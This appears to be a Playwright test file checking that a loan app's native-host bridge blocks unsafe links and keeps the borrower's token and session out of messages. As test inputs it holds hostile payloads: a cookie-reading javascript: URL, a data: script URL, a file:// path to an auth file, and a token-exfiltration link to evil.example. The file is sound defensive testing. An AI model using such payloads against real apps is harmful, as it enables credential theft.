/**
 * No message to the native host goes around the safe link rule or carries the borrower's
 * credentials (issue 20): whatever sends it, the one bridge module judges a message's link by the
 * same rule as openLink and leaves the token and session out. Here a page drives the `bridge`
 * action itself, as a page (or a brand's page patch) built past `validate` would: the error page's
 * Home button is served as
 * `{"do":"bridge","action":"openLink","data":{"url":"{{query.next}}","token":"{{launch.token}}"}}`.
 */
import { expect, test, type Page } from './cspGuard.ts';
import { WORDS } from './borrowers.ts';
import { hostMessages, installHost } from './nativeHost.ts';
import { toast } from './repaySupport.ts';

const TOKEN = 'bridge-token-0123456789abcdef';
const SESSION = 'bridge-session-42';
const HOME_BRIDGE = '{do:`bridge`,action:`goHome`}';
const AROUND_THE_RULE =
  '{do:`bridge`,action:`openLink`,data:{url:{$template:[[`query.next`]]},token:{$template:[[`launch.token`]]},session:{$template:[[`launch.session`]]},note:{$template:[`t=`,[`launch.token`]]}}}';

/** Serves the built error page with its Home button rewritten to the bridge action above. */
async function serveRewrittenErrorPage(page: Page): Promise<void> {
  await page.route(/\/assets\/error-[^/]+\.js$/, async (route) => {
    const original = await route.fetch();
    const body = await original.text();
    expect(body).toContain(HOME_BRIDGE);
    await route.fulfill({ response: original, body: body.replace(HOME_BRIDGE, AROUND_THE_RULE) });
  });
}

async function pressHome(page: Page, next: string): Promise<void> {
  await page.goto(`/error?${new URLSearchParams({ next, token: TOKEN, session: SESSION })}`);
  await page.getByRole('link', { name: 'Home' }).click();
}

test.describe('a page-driven bridge openLink inside a native host', () => {
  test.beforeEach(async ({ page }) => {
    await installHost(page, 'android');
    await serveRewrittenErrorPage(page);
  });

  for (const next of [
    'javascript:alert(document.cookie)',
    'data:text/html,<script>alert(1)</script>',
    'file:///data/data/app/shared_prefs/auth.xml',
    `https://evil.example/steal?t=${TOKEN}`,
  ]) {
    test(`never hands the host ${next.slice(0, next.indexOf(':') + 1)} ${next.includes(TOKEN) ? 'with the token' : 'links'}: the borrower is told the link cannot be opened`, async ({
      page,
    }) => {
      await pressHome(page, next);
      await expect(toast(page, WORDS.in.link)).toBeVisible();
      expect(await hostMessages(page)).toEqual([]);
    });
  }

  test('a link the rule lets go reaches the host without the token, the session or anything holding them', async ({
    page,
  }) => {
    await pressHome(page, 'https://lender.elsewhere.example/offer?ref=home');
    await expect.poll(() => hostMessages(page)).toHaveLength(1);
    const [message] = (await hostMessages(page)) as { action: string; data: Record<string, unknown> }[];
    expect(message).toEqual({ action: 'openLink', data: { url: 'https://lender.elsewhere.example/offer?ref=home' } });
    expect(JSON.stringify(await hostMessages(page))).not.toContain(TOKEN);
    expect(JSON.stringify(await hostMessages(page))).not.toContain(SESSION);
  });
});
